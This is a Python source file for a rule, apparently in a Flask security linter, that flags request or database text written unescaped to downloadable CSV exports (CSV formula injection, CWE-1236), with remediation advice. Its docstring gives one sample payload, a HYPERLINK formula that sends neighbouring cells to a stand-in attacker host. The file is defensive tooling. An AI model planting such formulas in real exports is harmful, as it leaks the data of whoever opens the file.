"""A client's text, or one that was stored, is written as it is to a CSV that people download.

## What it does
Reports text from a request or from the database that is written with `csv.writer` or `csv.DictWriter`, also through
helpers and generators, where the result is sent as a download. It is silent where every text is prefixed or refused
when it begins like a formula (`=`, `+`, `-`, `@`), for numbers, dates and texts of a fixed list, for files that are not
sent to anybody, and for JSON and HTML.
## Why it matters
Excel, LibreOffice and Google Sheets take a cell that begins with `=`, `+`, `-` or `@` for a formula, quoted or not. A
visitor who registers as `=HYPERLINK("https://evil.example/?"&A1,"open")` reaches the desk of whoever opens the month's
export: the formula sends the cells beside it away at a click, and older versions of Excel start programs. The web pages
of the application show the same name without any harm, so that nobody looks for it.
## How to mend
Put an apostrophe before each text that begins with `=`, `+`, `-`, `@`, a tab or a carriage return, in one function
through which all cells go. Quoting alone (`csv.QUOTE_ALL`) does not help: the spreadsheet takes the quotes off.
## References
- [OWASP: CSV injection](https://owasp.org/www-community/attacks/CSV_Injection)
- [CWE-1236: improper neutralisation of formula elements](https://cwe.mitre.org/data/definitions/1236.html)
- [Python: `csv`](https://docs.python.org/3/library/csv.html)
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from flaskwright.findings.finding import Severity
from flaskwright.rule_support.untrusted import untrusted
from flaskwright.rules import Profile, Rule

if TYPE_CHECKING:
    from collections.abc import Iterator

    from flaskwright.analysis import Project
    from flaskwright.findings.finding import Finding


def check(project: Project) -> Iterator[Finding]:
    yield from untrusted(
        project,
        RULE,
        ("csv",),
        "{source} is written to a CSV by {sink}, and a spreadsheet runs it where it begins like a formula",
        help="put a `'` before texts that begin with `=`, `+`, `-`, `@`, a tab or a carriage return",
    )


RULE = Rule(
    code="INJ121",
    name="csv-formula",
    severity=Severity.WARNING,
    profile=Profile.DEFAULT,
    check=check,
    wrong="fires_export_of_stored_names",
    right="silent_prefixed_by_helper",
    cwe=(1236,),
)
